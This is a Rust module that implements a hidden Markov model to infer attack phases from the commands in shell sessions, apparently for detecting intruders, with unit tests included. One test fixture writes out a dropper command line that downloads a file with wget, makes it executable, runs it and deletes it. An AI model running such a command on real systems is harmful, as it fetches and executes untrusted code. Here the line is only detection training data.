//! Layer 1: a hidden Markov model over attack phases ([`super::phases`]), observed through the
//! programs a session runs.
//!
//! [`PhaseModel`] holds start, transition and emission probabilities. It is trained
//! supervised from sequences the phase tagger labels (counts plus add-α smoothing) and can be
//! refined without labels by Baum-Welch with scaled forward-backward. A session holds a
//! [`PhaseFilter`] and steps it once per command; each step returns the filtered posterior
//! P(phase now | commands so far), always normalised. The model (de)serializes as JSON with a
//! format version, like the Markov model.
//!
//! Observations are program names seen at least `min_count` times in training; any other
//! program is the unknown symbol, so attacker input can never index outside the tables.

use std::collections::{BTreeMap, HashMap};

use serde::{Deserialize, Serialize};

use super::normalize::Normalized;
use super::phases::{PHASES, tag};

/// The phase model file format this code reads and writes.
pub const FORMAT_VERSION: u32 = 1;

/// The observation for programs outside the alphabet.
const UNKNOWN: &str = "<UNK>";

/// A probability vector over the phases, indexed by [`super::phases::Phase::index`].
pub type Posterior = [f64; PHASES];

/// Why a phase model file cannot be read.
#[derive(Debug, thiserror::Error)]
pub enum PhaseModelError {
    /// Not JSON of the model's shape.
    #[error("bad phase model file: {0}")]
    Json(#[from] serde_json::Error),
    /// Written by another version of the format.
    #[error("phase model format version {found}, this build reads {FORMAT_VERSION}")]
    Version {
        /// The version in the file.
        found: u32,
    },
    /// Tables of the wrong size or rows that are not probability distributions.
    #[error("phase model tables are inconsistent: {0}")]
    Shape(&'static str),
}

/// The phase HMM.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct PhaseModel {
    /// Format version ([`FORMAT_VERSION`]).
    pub version: u32,
    /// Observation symbol (program name, or `<UNK>` at index 0) → its index.
    symbols: BTreeMap<String, usize>,
    /// P(first phase).
    start: Posterior,
    /// `transition[from][to]` = P(next phase `to` | phase `from`).
    transition: [Posterior; PHASES],
    /// `emission[symbol][phase]` = P(symbol | phase); each phase's column sums to 1.
    emission: Vec<Posterior>,
}

impl PhaseModel {
    /// A model from explicit tables: `symbols` name the emission rows after the unknown
    /// symbol (row 0). Rows of `start`, `transition` and each phase's emission column are
    /// renormalised; tables of the wrong size or with negative entries are refused.
    pub fn from_parts(
        symbols: &[&str],
        start: Posterior,
        transition: [Posterior; PHASES],
        emission: Vec<Posterior>,
    ) -> Result<PhaseModel, PhaseModelError> {
        if emission.len() != symbols.len() + 1 {
            return Err(PhaseModelError::Shape(
                "one emission row per symbol plus <UNK>",
            ));
        }
        let mut model = PhaseModel {
            version: FORMAT_VERSION,
            symbols: std::iter::once(UNKNOWN)
                .chain(symbols.iter().copied())
                .enumerate()
                .map(|(i, s)| (s.to_owned(), i))
                .collect(),
            start,
            transition,
            emission,
        };
        if model.symbols.len() != model.emission.len() {
            return Err(PhaseModelError::Shape("symbols must be distinct"));
        }
        model.check()?;
        model.normalise();
        Ok(model)
    }

    /// A model trained supervised: each command's phase is [`tag`]'s, programs seen at least
    /// `min_count` times become symbols, and every count gets `alpha` added (so nothing is
    /// impossible, and an unseen program is possible in every phase).
    pub fn supervised<'a>(
        sessions: impl IntoIterator<Item = &'a [Normalized]> + Clone,
        min_count: u32,
        alpha: f64,
    ) -> PhaseModel {
        let mut frequency: HashMap<&str, u32> = HashMap::new();
        for session in sessions.clone() {
            for command in session {
                *frequency.entry(command.program.as_str()).or_default() += 1;
            }
        }
        let mut names: Vec<&str> = frequency
            .into_iter()
            .filter(|&(name, n)| n >= min_count.max(1) && name != UNKNOWN)
            .map(|(name, _)| name)
            .collect();
        names.sort_unstable();
        let symbols: BTreeMap<String, usize> = std::iter::once(UNKNOWN)
            .chain(names)
            .enumerate()
            .map(|(i, s)| (s.to_owned(), i))
            .collect();
        let alpha = alpha.max(0.0);
        let mut model = PhaseModel {
            version: FORMAT_VERSION,
            start: [alpha; PHASES],
            transition: [[alpha; PHASES]; PHASES],
            emission: vec![[alpha; PHASES]; symbols.len()],
            symbols,
        };
        for session in sessions {
            let mut previous: Option<usize> = None;
            for command in session {
                let phase = tag(command).index();
                match previous {
                    None => model.start[phase] += 1.0,
                    Some(from) => model.transition[from][phase] += 1.0,
                }
                let symbol = model.observe(command);
                model.emission[symbol][phase] += 1.0;
                previous = Some(phase);
            }
        }
        model.normalise();
        model
    }

    /// The observation symbol of a command (its program, or the unknown symbol).
    pub fn observe(&self, command: &Normalized) -> usize {
        self.symbols
            .get(command.program.as_str())
            .copied()
            .unwrap_or(0)
    }

    /// How many observation symbols there are (the unknown one included).
    pub fn symbols(&self) -> usize {
        self.emission.len()
    }

    /// The log-likelihood of a sequence of observation symbols (scaled forward pass).
    /// Symbols out of range count as unknown.
    pub fn log_likelihood(&self, observations: &[usize]) -> f64 {
        let mut filter = PhaseFilter::new();
        observations
            .iter()
            .map(|&o| filter.step_symbol(self, o).1.ln())
            .sum()
    }

    /// Refines the model without labels: `iterations` rounds of Baum-Welch (scaled
    /// forward-backward over every sequence, then re-estimation with `alpha` added to every
    /// expected count). Returns the total log-likelihood before each round and after the last;
    /// each round does not decrease it (up to the smoothing).
    pub fn baum_welch(
        &mut self,
        sequences: &[Vec<usize>],
        iterations: usize,
        alpha: f64,
    ) -> Vec<f64> {
        let alpha = alpha.max(0.0);
        let mut history = Vec::with_capacity(iterations + 1);
        for _ in 0..iterations {
            let mut start = [alpha; PHASES];
            let mut transition = [[alpha; PHASES]; PHASES];
            let mut emission = vec![[alpha; PHASES]; self.emission.len()];
            let mut total = 0.0;
            for sequence in sequences.iter().filter(|s| !s.is_empty()) {
                let obs: Vec<usize> = sequence.iter().map(|&o| self.symbol(o)).collect();
                let (alphas, scales) = self.forward(&obs);
                total += scales.iter().map(|c| c.ln()).sum::<f64>();
                let betas = self.backward(&obs, &scales);
                for t in 0..obs.len() {
                    let gamma = normalised(std::array::from_fn(|i| alphas[t][i] * betas[t][i]));
                    for i in 0..PHASES {
                        emission[obs[t]][i] += gamma[i];
                        if t == 0 {
                            start[i] += gamma[i];
                        }
                    }
                    if t + 1 < obs.len() {
                        let next = &self.emission[obs[t + 1]];
                        let mut xi = [[0.0; PHASES]; PHASES];
                        let mut sum = 0.0;
                        for i in 0..PHASES {
                            for j in 0..PHASES {
                                xi[i][j] = alphas[t][i]
                                    * self.transition[i][j]
                                    * next[j]
                                    * betas[t + 1][j];
                                sum += xi[i][j];
                            }
                        }
                        if sum > 0.0 {
                            for i in 0..PHASES {
                                for j in 0..PHASES {
                                    transition[i][j] += xi[i][j] / sum;
                                }
                            }
                        }
                    }
                }
            }
            history.push(total);
            self.start = start;
            self.transition = transition;
            self.emission = emission;
            self.normalise();
        }
        history.push(
            sequences
                .iter()
                .map(|s| self.log_likelihood(s))
                .sum::<f64>(),
        );
        history
    }

    /// The most likely phase of each command given the whole sequence (Viterbi, in logs).
    pub fn viterbi(&self, observations: &[usize]) -> Vec<usize> {
        let ln = |p: f64| if p > 0.0 { p.ln() } else { f64::NEG_INFINITY };
        let mut back: Vec<[usize; PHASES]> = Vec::with_capacity(observations.len());
        let mut score: Posterior = [0.0; PHASES];
        for (t, &o) in observations.iter().enumerate() {
            let emit = &self.emission[self.symbol(o)];
            if t == 0 {
                score = std::array::from_fn(|j| ln(self.start[j]) + ln(emit[j]));
                back.push([0; PHASES]);
                continue;
            }
            let mut from = [0; PHASES];
            let next: Posterior = std::array::from_fn(|j| {
                let (best, value) = (0..PHASES)
                    .map(|i| (i, score[i] + ln(self.transition[i][j])))
                    .fold((0, f64::NEG_INFINITY), |a, b| if b.1 > a.1 { b } else { a });
                from[j] = best;
                value + ln(emit[j])
            });
            score = next;
            back.push(from);
        }
        let mut path = vec![0; observations.len()];
        let Some(mut state) = (!observations.is_empty()).then(|| argmax(&score)) else {
            return path;
        };
        for t in (0..observations.len()).rev() {
            path[t] = state;
            state = back[t][state];
        }
        path
    }

    /// The model as JSON.
    pub fn to_json(&self) -> String {
        serde_json::to_string(self).unwrap_or_default()
    }

    /// A model from its JSON, refusing other format versions and inconsistent tables.
    pub fn from_json(text: &str) -> Result<PhaseModel, PhaseModelError> {
        #[derive(Deserialize)]
        struct Header {
            version: u32,
        }
        let header: Header = serde_json::from_str(text)?;
        if header.version != FORMAT_VERSION {
            return Err(PhaseModelError::Version {
                found: header.version,
            });
        }
        let model: PhaseModel = serde_json::from_str(text)?;
        model.check()?;
        Ok(model)
    }

    /// Refuses tables a filter could index out of or divide by zero with.
    fn check(&self) -> Result<(), PhaseModelError> {
        let finite = |row: &Posterior| row.iter().all(|p| p.is_finite() && *p >= 0.0);
        if self.emission.is_empty()
            || self.symbols.len() != self.emission.len()
            || self.symbols.values().any(|&i| i >= self.emission.len())
        {
            return Err(PhaseModelError::Shape("one emission row per symbol"));
        }
        if !finite(&self.start)
            || !self.transition.iter().all(finite)
            || !self.emission.iter().all(finite)
        {
            return Err(PhaseModelError::Shape(
                "probabilities must be finite and >= 0",
            ));
        }
        if self.start.iter().sum::<f64>() <= 0.0 {
            return Err(PhaseModelError::Shape("start has no mass"));
        }
        Ok(())
    }

    /// Makes the start vector, each transition row and each phase's emission column sum to 1
    /// (an all-zero row becomes uniform).
    fn normalise(&mut self) {
        self.start = normalised(self.start);
        for row in &mut self.transition {
            *row = normalised(*row);
        }
        for phase in 0..PHASES {
            let total: f64 = self.emission.iter().map(|row| row[phase]).sum();
            let n = self.emission.len() as f64;
            for row in &mut self.emission {
                row[phase] = if total > 0.0 {
                    row[phase] / total
                } else {
                    1.0 / n
                };
            }
        }
    }

    /// An observation symbol clamped into the alphabet.
    fn symbol(&self, observation: usize) -> usize {
        if observation < self.emission.len() {
            observation
        } else {
            0
        }
    }

    /// Scaled forward pass: each step's normalised α and its scale (P(o_t | o_<t)).
    fn forward(&self, observations: &[usize]) -> (Vec<Posterior>, Vec<f64>) {
        let mut filter = PhaseFilter::new();
        observations
            .iter()
            .map(|&o| filter.step_symbol(self, o))
            .unzip()
    }

    /// Scaled backward pass with the forward pass's scales.
    fn backward(&self, observations: &[usize], scales: &[f64]) -> Vec<Posterior> {
        let n = observations.len();
        let mut betas = vec![[1.0; PHASES]; n];
        for t in (0..n.saturating_sub(1)).rev() {
            let next = &self.emission[observations[t + 1]];
            let scale = scales[t + 1].max(f64::MIN_POSITIVE);
            betas[t] = std::array::from_fn(|i| {
                (0..PHASES)
                    .map(|j| self.transition[i][j] * next[j] * betas[t + 1][j])
                    .sum::<f64>()
                    / scale
            });
        }
        betas
    }
}

/// A session's running phase distribution: forward filtering, one step per command.
#[derive(Debug, Clone, Default, PartialEq, Serialize, Deserialize)]
pub struct PhaseFilter {
    /// P(phase | commands so far); `None` before the first command.
    posterior: Option<Posterior>,
}

impl PhaseFilter {
    /// A filter before the session's first command.
    pub fn new() -> PhaseFilter {
        PhaseFilter::default()
    }

    /// Takes in the session's next command and returns P(phase now | commands so far),
    /// summing to 1.
    pub fn step(&mut self, model: &PhaseModel, command: &Normalized) -> Posterior {
        self.step_symbol(model, model.observe(command)).0
    }

    /// The current distribution: the start distribution before any command.
    pub fn posterior(&self, model: &PhaseModel) -> Posterior {
        self.posterior.unwrap_or(model.start)
    }

    /// The distribution of the *next* command's phase (one transition ahead).
    pub fn predict(&self, model: &PhaseModel) -> Posterior {
        match self.posterior {
            None => model.start,
            Some(now) => advance(model, &now),
        }
    }

    /// One filtering step on a symbol: the new posterior and the step's scale
    /// P(observation | earlier observations) (its log sums to the log-likelihood).
    fn step_symbol(&mut self, model: &PhaseModel, observation: usize) -> (Posterior, f64) {
        let prior = self.predict(model);
        let emit = &model.emission[model.symbol(observation)];
        let joint: Posterior = std::array::from_fn(|j| prior[j] * emit[j]);
        let scale: f64 = joint.iter().sum();
        // A zero scale only happens with hand-built tables that make the symbol impossible:
        // fall back to the prior rather than divide by zero.
        let posterior = if scale > 0.0 && scale.is_finite() {
            joint.map(|p| p / scale)
        } else {
            normalised(prior)
        };
        self.posterior = Some(posterior);
        (posterior, scale.max(f64::MIN_POSITIVE))
    }
}

/// The phase distribution one transition after `now`.
fn advance(model: &PhaseModel, now: &Posterior) -> Posterior {
    normalised(std::array::from_fn(|j| {
        (0..PHASES).map(|i| now[i] * model.transition[i][j]).sum()
    }))
}

/// `row` scaled to sum to 1; uniform when it has no mass.
fn normalised(row: Posterior) -> Posterior {
    let total: f64 = row.iter().sum();
    if total > 0.0 && total.is_finite() {
        row.map(|p| p / total)
    } else {
        [1.0 / PHASES as f64; PHASES]
    }
}

/// The index of the largest entry (the first on ties).
pub fn argmax(row: &Posterior) -> usize {
    (0..PHASES).fold(0, |best, i| if row[i] > row[best] { i } else { best })
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::models::normalize::normalize_line;
    use crate::models::phases::Phase;

    fn command(program: &str) -> Normalized {
        Normalized {
            token: program.to_owned(),
            program: program.to_owned(),
            fetched: Vec::new(),
        }
    }

    /// Two live phases (recon = 0, download = 2) over symbols `a` and `b`; the other phases
    /// have no start mass and are never entered.
    fn hand_built() -> PhaseModel {
        let mut start = [0.0; PHASES];
        start[0] = 0.6;
        start[2] = 0.4;
        let mut transition = [[0.0; PHASES]; PHASES];
        for (i, row) in transition.iter_mut().enumerate() {
            row[i] = 1.0; // unused phases stay put
        }
        transition[0] = [0.7, 0.0, 0.3, 0.0, 0.0, 0.0];
        transition[2] = [0.4, 0.0, 0.6, 0.0, 0.0, 0.0];
        let mut unknown = [0.0; PHASES];
        let mut a = [0.0; PHASES];
        let mut b = [0.0; PHASES];
        for p in [1, 3, 4, 5] {
            unknown[p] = 1.0;
        }
        a[0] = 0.9;
        b[0] = 0.1;
        a[2] = 0.2;
        b[2] = 0.8;
        PhaseModel::from_parts(&["a", "b"], start, transition, vec![unknown, a, b])
            .expect("valid tables")
    }

    fn close(got: Posterior, want: [(usize, f64); 2]) {
        assert!((got.iter().sum::<f64>() - 1.0).abs() < 1e-12, "{got:?}");
        for (i, p) in want {
            assert!((got[i] - p).abs() < 1e-9, "phase {i}: {got:?} want {p}");
        }
    }

    #[test]
    fn a_hand_built_hmm_gives_the_filtered_posterior_computed_by_hand() {
        let model = hand_built();
        let mut filter = PhaseFilter::new();
        // t=1, see a: (0.6·0.9, 0.4·0.2) = (0.54, 0.08) → (27/31, 4/31).
        close(
            filter.step(&model, &command("a")),
            [(0, 27.0 / 31.0), (2, 4.0 / 31.0)],
        );
        // t=2, see b: prior (27/31·0.7 + 4/31·0.4, 27/31·0.3 + 4/31·0.6) = (20.5/31, 10.5/31);
        // times P(b) (0.1, 0.8) = (2.05, 8.4)/31 → (2.05/10.45, 8.4/10.45).
        close(
            filter.step(&model, &command("b")),
            [(0, 2.05 / 10.45), (2, 8.4 / 10.45)],
        );
        // The likelihood is the product of the step scales: 0.62 · 10.45/31.
        let ll = model.log_likelihood(&[1, 2]);
        assert!((ll - (0.62 * 10.45 / 31.0_f64).ln()).abs() < 1e-12, "{ll}");
    }

    #[test]
    fn the_posterior_stays_normalised_on_impossible_and_unknown_input() {
        let model = hand_built();
        let mut filter = PhaseFilter::new();
        // An unknown program has zero probability in both live phases: the filter keeps the
        // prior instead of dividing by zero.
        let p = filter.step(&model, &command("never-seen"));
        assert!((p.iter().sum::<f64>() - 1.0).abs() < 1e-12, "{p:?}");
        assert!(p.iter().all(|x| x.is_finite()));
        let _ = model.log_likelihood(&[usize::MAX, 7, 0]);
        assert_eq!(model.viterbi(&[1, 2, 2]), [0, 2, 2]);
        assert!(model.viterbi(&[]).is_empty());
    }

    #[test]
    fn baum_welch_does_not_decrease_the_likelihood() {
        let mut model = hand_built();
        let sequences = vec![vec![1, 1, 2, 2, 2, 1], vec![2, 2, 1], vec![1, 2, 1, 2]];
        let history = model.baum_welch(&sequences, 8, 0.0);
        assert_eq!(history.len(), 9);
        for pair in history.windows(2) {
            assert!(pair[1] >= pair[0] - 1e-9, "{history:?}");
        }
        assert!(
            history[8] > history[0] + 1e-6,
            "it learns something: {history:?}"
        );
    }

    #[test]
    fn supervised_training_learns_the_tagged_phases() {
        let dropper =
            normalize_line("uname -a; cd /tmp; wget http://a/x; chmod 777 x; sh x; rm -rf x");
        let recon = normalize_line("uname -a; free -m; w; uname -a");
        let sessions = [dropper.as_slice(), recon.as_slice()];
        let model = PhaseModel::supervised(sessions.iter().copied(), 1, 0.1);
        let mut filter = PhaseFilter::new();
        let mut last = [0.0; PHASES];
        for (i, command) in dropper.iter().enumerate() {
            last = filter.step(&model, command);
            if i == 2 {
                assert_eq!(argmax(&last), Phase::DownloadExecute.index(), "{last:?}");
            }
        }
        assert_eq!(argmax(&last), Phase::Cleanup.index(), "{last:?}");
        assert_eq!(model.observe(&command("not-a-program")), 0);
    }

    #[test]
    fn json_round_trip_keeps_the_model_and_checks_the_version() {
        let model = hand_built();
        let json = model.to_json();
        let back = PhaseModel::from_json(&json).expect("round trip");
        assert_eq!(back, model);
        let mut f1 = PhaseFilter::new();
        let mut f2 = PhaseFilter::new();
        assert_eq!(
            f1.step(&model, &command("b")),
            f2.step(&back, &command("b"))
        );
        let wrong = json.replacen("\"version\":1", "\"version\":7", 1);
        assert!(matches!(
            PhaseModel::from_json(&wrong),
            Err(PhaseModelError::Version { found: 7 })
        ));
        assert!(PhaseModel::from_json("[").is_err());
        let truncated = json.replacen("\"a\":1,", "", 1);
        assert!(PhaseModel::from_json(&truncated).is_err(), "{truncated}");
    }
}
